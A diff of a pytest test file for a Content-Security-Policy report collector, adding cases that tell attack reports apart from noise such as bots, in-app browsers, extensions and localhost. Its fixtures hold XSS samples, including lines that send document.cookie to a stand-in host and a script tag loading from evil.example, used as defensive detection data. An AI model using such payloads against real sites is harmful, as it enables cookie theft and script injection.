@@ -6,16 +6,28 @@ import dataclasses
 
 import pytest
 
-from collector.ingest.noise import GENUINE, RULES, classify, host_matches
+from collector.ingest.noise import GENUINE, classify, host_matches
 from collector.ingest.normalization import INVALID, NormalizedViolation, normalize
+from collector.ingest.rules import built_in_rules
 from collector.ingest.wire import ReportKind, WireReport
 from policybuilder.evidence import EvidenceClass
 
+RULES = built_in_rules().rules
 HOSTS = ("shop.example", "*.shop.example")
 ATTACK_PAGE = "https://shop.example/search?q=%3Cscript%20src=https://evil.example/x.js%3E%3C/script%3E"
 
 
-def report(**members: str) -> NormalizedViolation:
+INSTAGRAM = (
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
+    "Instagram 380.0.0.28.109 (iPhone14,5; iOS 18_5; en_US; en; scale=3.00; 1170x2532; 738113467)"
+)
+GOOGLEBOT = (
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) "
+    "Chrome/156.0.0.0 Safari/537.36"
+)
+
+
+def report(user_agent: str = "", **members: str) -> NormalizedViolation:
     """A violation as normalisation hands it on; of a picture from elsewhere, if nothing else is said."""
     wire = {
         "document-uri": "https://shop.example/cart",
@@ -24,7 +36,7 @@ def report(**members: str) -> NormalizedViolation:
         "original-policy": "default-src 'none'",
         **{name.replace("_", "-"): value for name, value in members.items()},
     }
-    normalized = normalize(WireReport(ReportKind.VIOLATION, wire))
+    normalized = normalize(WireReport(ReportKind.VIOLATION, wire), user_agent)
     assert isinstance(normalized, NormalizedViolation)
     return normalized
 
@@ -99,10 +111,10 @@ RULE_CASES = [
             "script_sample": "alert(document.domain)",
         },
         {
-            "document_uri": "https://shop.example/?q=alert(document.domain)",
+            "document_uri": "https://shop.example/?q=alert('Added!')",
             "effective_directive": "script-src-attr",
             "blocked_uri": "inline",
-            "script_sample": "alert(document.domain)",
+            "script_sample": "alert('Added!')",
         },
     ),
     (
@@ -126,6 +138,81 @@ RULE_CASES = [
     ),
     ("own-policy-allows", {"original_policy": "script-src 'none'"}, {"original_policy": "default-src 'self'"}),
     ("own-policy-allows", {"original_policy": "img-src *"}, {"original_policy": ""}),
+    (
+        "extension-script",
+        {"blocked_uri": "inline", "script_sample": "(function installGlobalHook(window) {"},
+        {"blocked_uri": "inline", "script_sample": "(function install(window) {"},
+    ),
+    ("attack-host", {"blocked_uri": "https://c8f.oast.fun/x"}, {"blocked_uri": "https://toast.fun/x"}),
+    ("attack-host", {"blocked_uri": "https://a.burpcollaborator.net"}, {"blocked_uri": "https://portswigger.net/"}),
+    ("attack-source", {"source_file": "https://xss.report/c/me"}, {"source_file": "https://report.example/c/me"}),
+    *(
+        (
+            "attack-sample",
+            {"effective_directive": "script-src-attr", "blocked_uri": "inline", "script_sample": sample},
+            {"effective_directive": "script-src-attr", "blocked_uri": "inline", "script_sample": neighbour},
+        )
+        for sample, neighbour in (
+            ("alert(document.domain)", "alert('Thank you')"),
+            ("fetch('//a.example/'+document.cookie)", "fetch('/api/cart').then(r=>r.json())"),
+            ("new Image().src='//a.example/?'+document.cookie", "document.cookie='seen=1'"),
+            ("eval(atob('YWxl'", "this.src='/fallback.png'"),
+        )
+    ),
+    (
+        "attack-sample",
+        {
+            "effective_directive": "require-trusted-types-for",
+            "blocked_uri": "trusted-types-sink",
+            "sample": "Element innerHTML|<svg onload=f()>",
+        },
+        {
+            "effective_directive": "require-trusted-types-for",
+            "blocked_uri": "trusted-types-sink",
+            "sample": "Element innerHTML|<svg viewBox=",
+            "original_policy": "require-trusted-types-for 'script'",
+        },
+    ),
+    # More pairs are in test_lookalikes.py.
+    ("look-alike", {"blocked_uri": "https://sh0p.example/x.js"}, {"blocked_uri": "https://img.shop.example/x.js"}),
+    (
+        "look-alike",
+        {"blocked_uri": "https://typecaze.example/a", "original_policy": "img-src https://files.typecase.example"},
+        {"blocked_uri": "https://typeset.example/a", "original_policy": "img-src https://files.typecase.example"},
+    ),
+    (
+        "in-app-request",
+        {"user_agent": INSTAGRAM, "blocked_uri": "https://connect.facebook.net/en_US/pcm.js"},
+        {"user_agent": INSTAGRAM, "blocked_uri": "https://connect.facebook.net/en_US/sdk.js"},
+    ),
+    (
+        "in-app-request",
+        {"user_agent": INSTAGRAM, "blocked_uri": "https://connect.facebook.net/en_US/iab.autofill.enhanced.js"},
+        {"blocked_uri": "https://connect.facebook.net/en_US/iab.autofill.enhanced.js"},
+    ),
+    (
+        "in-app-script",
+        {"user_agent": INSTAGRAM, "blocked_uri": "inline", "sample": "_AutofillCallbackHandler = function"},
+        {"user_agent": INSTAGRAM, "blocked_uri": "inline", "sample": "window.dataLayer = window.dataLayer || ["},
+    ),
+    (
+        "translating-script",
+        {"blocked_uri": "https://www.gstatic.com/_/translate_http/_/ss/k=translate_http.tr/d=0"},
+        {"blocked_uri": "https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js"},
+    ),
+    # Where people develop, their own machine is a real dependency; a public page has no business there.
+    *(
+        ("loopback-blocked", {"blocked_uri": blocked}, {"blocked_uri": blocked, "document_uri": document})
+        for blocked, document in (
+            ("http://localhost:3000/a.js", "about:srcdoc"),
+            ("http://127.0.0.1/a.js", "blob:https://shop.example/x"),
+            ("ws://[::1]:24678/", "about:blank"),
+        )
+    ),
+    ("bot", {"user_agent": GOOGLEBOT}, {"user_agent": GOOGLEBOT.replace("compatible; Googlebot/2.1; +http", "x; h")}),
+    ("bot", {"user_agent": "Mozilla/5.0 (compatible; NewCrawler/1.0; +http://crawl.example/)"}, {"user_agent": ""}),
+    ("bot", {"user_agent": "Slackbot-LinkExpanding 1.0"}, {"user_agent": "Mozilla/5.0 (Linux; Android 14; CUBOT P80)"}),
+    ("bot", {"user_agent": "Twitterbot/1.0"}, {"user_agent": "Mozilla/5.0 (X11) HeadlessChrome/156.0.0.0"}),
 ]
 
 
@@ -150,8 +237,9 @@ def test_rules_are_told_apart_by_their_ids() -> None:
 @pytest.mark.parametrize(
     "members",
     [
-        {"blocked_uri": "http://localhost:3000/a.js"},
-        {"blocked_uri": "http://127.0.0.1/a.js"},
+        {"blocked_uri": "http://localhost:3000/a.js", "document_uri": "http://localhost:8000/"},
+        {"blocked_uri": "ws://127.0.0.1:24678/", "document_uri": "http://192.168.1.20:8000/"},
+        {"blocked_uri": "http://localhost:35729/livereload.js", "document_uri": "https://shop.test/"},
         {"document_uri": "http://localhost:8000/"},
         {"blocked_uri": "blob"},
         {"blocked_uri": "data"},
